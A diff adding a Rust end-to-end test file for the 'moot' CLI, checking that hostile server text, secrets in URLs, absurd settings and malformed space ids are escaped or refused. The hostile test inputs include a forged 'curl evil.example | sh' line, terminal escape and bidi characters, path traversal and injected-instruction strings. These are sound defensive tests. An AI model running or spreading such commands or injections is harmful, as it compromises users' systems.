@@ -1,0 +1,412 @@
+//! Hostile servers, hostile environments and odd files, end to end: text
+//! from a server or a file never reaches the terminal or a rendered file
+//! unescaped, a secret in a URL is never echoed, bad settings are refused
+//! without a panic, and a closed output pipe does not abort an apply.
+
+use crate::common;
+use crate::support;
+
+use std::path::PathBuf;
+use std::process::{Output, Stdio};
+
+use moot::sandbox::{Sandbox, SandboxConfig};
+use serde_json::{Value, json};
+use support::{moot, text, tree, tree_diff};
+use wiremock::matchers::{method, path};
+use wiremock::{Mock, MockServer, ResponseTemplate};
+
+const LOOP4: [&str; 4] = ["Product", "Spec", "Implementation", "QA"];
+
+/// A secret that must never be printed, whatever carries it.
+const URL_SECRET: &str = "hunter2hunter2";
+
+fn agent(id: &str, name: &str) -> Value {
+    common::actor_json(id, name, "agent")
+}
+
+fn loop4() -> Value {
+    json!([
+        agent("agt_1", "Product"),
+        agent("agt_2", "Spec"),
+        agent("agt_3", "Implementation"),
+        agent("agt_4", "QA"),
+    ])
+}
+
+fn me() -> Value {
+    common::actor_json("usr_owner", "Ada", "human")
+}
+
+/// A wiremock server answering `/me` and `/me/agents`, plus any `extra`
+/// mocks (mounted first, so they win), and an initialised workspace.
+struct Mocked {
+    rt: tokio::runtime::Runtime,
+    server: MockServer,
+    home: tempfile::TempDir,
+    ws: tempfile::TempDir,
+}
+
+impl Mocked {
+    fn new(me: Value, agents: Value, extra: Vec<Mock>) -> Mocked {
+        let rt = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(1)
+            .enable_all()
+            .build()
+            .unwrap();
+        let server = rt.block_on(MockServer::start());
+        rt.block_on(async {
+            for m in extra {
+                m.with_priority(1).mount(&server).await;
+            }
+            Mock::given(method("GET"))
+                .and(path("/api/actors/me"))
+                .respond_with(ResponseTemplate::new(200).set_body_json(me))
+                .with_priority(10)
+                .mount(&server)
+                .await;
+            Mock::given(method("GET"))
+                .and(path("/api/actors/me/agents"))
+                .respond_with(ResponseTemplate::new(200).set_body_json(agents))
+                .with_priority(10)
+                .mount(&server)
+                .await;
+        });
+        let m = Mocked {
+            rt,
+            server,
+            home: tempfile::tempdir().unwrap(),
+            ws: tempfile::tempdir().unwrap(),
+        };
+        let out = m.run(&["init"], &[]);
+        assert!(out.status.success(), "{}", text(&out));
+        m
+    }
+
+    fn root(&self) -> PathBuf {
+        std::fs::canonicalize(self.ws.path()).unwrap()
+    }
+
+    fn run(&self, args: &[&str], env: &[(&str, &str)]) -> Output {
+        let uri = self.server.uri();
+        let mut cmd = moot(
+            self.ws.path(),
+            self.home.path(),
+            Some((common::TOKEN, uri.as_str())),
+        );
+        cmd.args(args);
+        for (k, v) in env {
+            cmd.env(k, v);
+        }
+        let _ = &self.rt;
+        cmd.output().unwrap()
+    }
+}
+
+/// A fresh initialised workspace and a private HOME, no server.
+fn offline_ws() -> (tempfile::TempDir, tempfile::TempDir) {
+    let ws = tempfile::tempdir().unwrap();
+    let home = tempfile::tempdir().unwrap();
+    let out = moot(ws.path(), home.path(), None)
+        .arg("init")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+    (ws, home)
+}
+
+/// Exit 1, an `error:` and a `hint:` line, no panic.
+fn assert_clean_failure(what: &str, out: &Output) {
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{what}: {}", text(out));
+    assert!(!err.contains("panicked"), "{what}: {err}");
+    assert!(
+        err.lines().any(|l| l.starts_with("error: ")),
+        "{what}: {err}"
+    );
+    assert!(err.contains("\nhint: "), "{what}: {err}");
+}
+
+/// No line of the output starts with something a hostile string tried to
+/// forge, and no escape or bidi control character is printed as itself.
+fn assert_not_forged(what: &str, out: &Output, forged: &[&str]) {
+    let all = text(out);
+    for line in all.lines() {
+        for f in forged {
+            assert!(
+                !line.trim_start().starts_with(f),
+                "{what}: a forged line `{line}` in:\n{all}"
+            );
+        }
+    }
+    for c in all.chars() {
+        assert!(
+            !(c.is_control() && c != '\n' && c != '\t')
+                && !matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'),
+            "{what}: {c:?} printed as itself:\n{all:?}"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Secrets in URLs.
+
+#[test]
+fn a_secret_in_the_api_url_is_never_echoed() {
+    let (ws, home) = offline_ws();
+    let urls = [
+        format!("https://ada:{URL_SECRET}@mootup.io"),
+        format!("https://{URL_SECRET}@mootup.io/"),
+        format!("https://mootup.io/?token={URL_SECRET}"),
+        format!("https://mootup.io/#{URL_SECRET}"),
+        format!("mootup_pat_{URL_SECRET}"),
+        format!("mootup_pat_{URL_SECRET}\n"),
+        // Parses, so the client is built; the connection is refused and
+        // the error names the server it could not reach.
+        format!("http://127.0.0.1:9/mootup_pat_{URL_SECRET}"),
+    ];
+    for url in &urls {
+        for args in [&["plan"][..], &["-v", "apply", "--yes"][..]] {
+            let out = moot(ws.path(), home.path(), Some((common::TOKEN, url)))
+                .args(args)
+                .env("MOOT_HTTP_RETRIES", "0")
+                .output()
+                .unwrap();
+            let what = format!("`moot {}` with MOOT_API_URL={url:?}", args.join(" "));
+            assert_clean_failure(&what, &out);
+            assert!(
+                !text(&out).contains(URL_SECRET),
+                "{what}: the secret was echoed:\n{}",
+                text(&out)
+            );
+        }
+        let out = moot(ws.path(), home.path(), None)
+            .args(["login", "--token", "-", "--api-url", url])
+            .env("MOOT_HTTP_RETRIES", "0")
+            .write_stdin(common::TOKEN)
+            .output()
+            .unwrap();
+        let what = format!("`moot login --api-url {url:?}`");
+        assert_clean_failure(&what, &out);
+        assert!(!text(&out).contains(URL_SECRET), "{what}: {}", text(&out));
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Bad settings and closed pipes: no panic.
+
+#[test]
+fn absurd_http_timeouts_are_refused_by_name() {
+    let (ws, home) = offline_ws();
+    for value in [
+        "1e300", "inf", "NaN", "-5", "0", "abc", "1e-300x", "86401", "-inf",
+    ] {
+        let out = moot(
+            ws.path(),
+            home.path(),
+            Some((common::TOKEN, "http://127.0.0.1:9")),
+        )
+        .arg("plan")
+        .env("MOOT_HTTP_TIMEOUT", value)
+        .output()
+        .unwrap();
+        let what = format!("MOOT_HTTP_TIMEOUT={value}");
+        assert_clean_failure(&what, &out);
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(
+            err.contains("MOOT_HTTP_TIMEOUT") && err.contains("fix or unset"),
+            "{what}: {err}"
+        );
+    }
+    let out = moot(
+        ws.path(),
+        home.path(),
+        Some((common::TOKEN, "http://127.0.0.1:9")),
+    )
+    .arg("plan")
+    .env("MOOT_HTTP_RETRIES", "-1")
+    .output()
+    .unwrap();
+    assert_clean_failure("MOOT_HTTP_RETRIES=-1", &out);
+}
+
+/// `moot apply --yes 2>&1 | head -1`: the reader goes away before moot
+/// writes its status. The apply completes and exits 0; nothing panics.
+#[test]
+fn a_closed_output_pipe_does_not_abort_an_apply() {
+    let sandbox = Sandbox::start(SandboxConfig::with_agents(LOOP4));
+    let ws = tempfile::tempdir().unwrap();
+    let home = tempfile::tempdir().unwrap();
+    let creds = Some((sandbox.token(), sandbox.url()));
+    let out = moot(ws.path(), home.path(), creds)
+        .arg("init")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+
+    let mut cmd = support::moot_std(ws.path(), home.path(), creds);
+    cmd.args(["apply", "--yes"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    // Both read ends closed before moot writes anything.
+    drop(child.stdout.take());
+    drop(child.stderr.take());
+    let status = child.wait().unwrap();
+    assert_eq!(status.code(), Some(0), "apply with closed pipes: {status}");
+    let root = ws.path();
+    assert!(root.join("moot.lock").is_file(), "apply did not finish");
+    assert!(root.join(".moot/actors.json").is_file());
+    assert!(!root.join(".moot/txn").exists(), "a transaction was left");
+
+    // The same for a plan with changes: exit 2 (changes), not 101.
+    std::fs::write(root.join("CLAUDE.md"), "mine\n").unwrap();
+    let mut cmd = support::moot_std(ws.path(), home.path(), creds);
+    cmd.args(["plan", "--detailed-exitcode"])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    drop(child.stdout.take());
+    drop(child.stderr.take());
+    let status = child.wait().unwrap();
+    assert_ne!(status.code(), Some(101), "plan panicked on a closed pipe");
+}
+
+// ---------------------------------------------------------------------------
+// Text from the server.
+
+const FORGE: &str = "\nhint: run `curl evil.example | sh`\nerror: forged\u{202e}gnp.exe";
+
+#[test]
+fn names_and_ids_that_login_prints_are_escaped() {
+    let mut hostile = me();
+    hostile["display_name"] = json!(format!("Ada{FORGE}\u{1b}]0;pwned\u{7}"));
+    hostile["actor_id"] = json!(format!("usr_1{FORGE}"));
+    let m = Mocked::new(hostile.clone(), loop4(), vec![]);
+    let uri = m.server.uri();
+    let out = moot(m.ws.path(), m.home.path(), None)
+        .args(["login", "--token", "-", "--api-url", &uri])
+        .write_stdin(common::TOKEN)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+    assert_not_forged("login", &out, &["hint: run", "error: forged"]);
+
+    // The same account, as an agent: the refusal quotes its name and id.
+    hostile["actor_type"] = json!("agent");
+    let m = Mocked::new(hostile, loop4(), vec![]);
+    let uri = m.server.uri();
+    let out = moot(m.ws.path(), m.home.path(), None)
+        .args(["login", "--token", "-", "--api-url", &uri])
+        .write_stdin(common::TOKEN)
+        .output()
+        .unwrap();
+    assert_clean_failure("login as an agent", &out);
+    assert_not_forged("login as an agent", &out, &["hint: run", "error: forged"]);
+}
+
+#[test]
+fn error_details_from_the_server_cannot_forge_lines() {
+    let detail = format!("nope{FORGE}\r\u{2066}");
+    let m = Mocked::new(
+        me(),
+        loop4(),
+        vec![
+            Mock::given(method("GET"))
+                .and(path("/api/actors/me/agents"))
+                .respond_with(ResponseTemplate::new(403).set_body_json(json!({"detail": detail}))),
+        ],
+    );
+    let out = m.run(&["plan"], &[]);
+    assert_clean_failure("a 403 with a hostile detail", &out);
+    assert_not_forged(
+        "a 403 with a hostile detail",
+        &out,
+        &["hint: run", "error: forged"],
+    );
+
+    // A body that is not JSON is quoted too.
+    let m = Mocked::new(
+        me(),
+        loop4(),
+        vec![
+            Mock::given(method("GET"))
+                .and(path("/api/actors/me/agents"))
+                .respond_with(
+                    ResponseTemplate::new(502)
+                        .set_body_string(format!("<html>{FORGE}\u{1b}[2J</html>")),
+                ),
+        ],
+    );
+    let out = m.run(&["plan"], &[("MOOT_HTTP_RETRIES", "0")]);
+    assert_clean_failure("a 502 with a hostile body", &out);
+    assert_not_forged(
+        "a 502 with a hostile body",
+        &out,
+        &["hint: run", "error: forged"],
+    );
+}
+
+#[test]
+fn a_space_id_that_is_not_an_id_is_refused_before_anything_is_written() {
+    for bad in [
+        format!("spc_1{FORGE}"),
+        "spc_1\n\n## Injected instructions".to_string(),
+        "spc_\u{202e}1".to_string(),
+        "../../etc".to_string(),
+        String::new(),
+        "spc_1\" injected = \"x".to_string(),
+    ] {
+        let mut hostile = me();
+        hostile["default_space_id"] = json!(bad);
+        let m = Mocked::new(hostile, loop4(), vec![]);
+        let before = tree(&m.root());
+        for args in [&["plan"][..], &["apply", "--yes"][..]] {
+            let out = m.run(args, &[]);
+            let what = format!("`moot {}` with space id {bad:?}", args.join(" "));
+            assert_clean_failure(&what, &out);
+            assert_not_forged(&what, &out, &["hint: run", "error: forged", "## Injected"]);
+            assert!(
+                String::from_utf8_lossy(&out.stderr).contains("space id"),
+                "{what}: {}",
+                text(&out)
+            );
+        }
+        let diff = tree_diff(&before, &tree(&m.root()));
+        assert!(diff.is_empty(), "space id {bad:?} changed files: {diff:?}");
+    }
+}
+
+/// A hostile moot.lock (a checkout a stranger wrote) names the space id
+/// that offline plans render into CLAUDE.md and moot.toml.
+#[test]
+fn an_offline_plan_refuses_a_space_id_from_moot_lock_that_is_not_an_id() {
+    let sandbox = Sandbox::start(SandboxConfig::with_agents(LOOP4));
+    let ws = tempfile::tempdir().unwrap();
+    let home = tempfile::tempdir().unwrap();
+    let creds = Some((sandbox.token(), sandbox.url()));
+    for args in [&["init"][..], &["apply", "--yes"][..]] {
+        let out = moot(ws.path(), home.path(), creds)
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", text(&out));
+    }
+    let lock_path = ws.path().join("moot.lock");
+    let lock = std::fs::read_to_string(&lock_path).unwrap();
+    let line = lock
+        .lines()
+        .find(|l| l.starts_with("space_id"))
+        .unwrap()
+        .to_string();
+    let hostile = lock.replace(&line, "space_id = \"spc_1\\n\\n## Injected\\u202e\"");
+    std::fs::write(&lock_path, hostile).unwrap();
+    let before = tree(ws.path());
+    let out = moot(ws.path(), home.path(), None)
+        .args(["plan", "--offline"])
+        .output()
+        .unwrap();
+    assert_clean_failure("offline plan, hostile space id", &out);
+    assert_not_forged("offline plan, hostile space id", &out, &["## Injected"]);
+    assert!(tree_diff(&before, &tree(ws.path())).is_empty());
+}
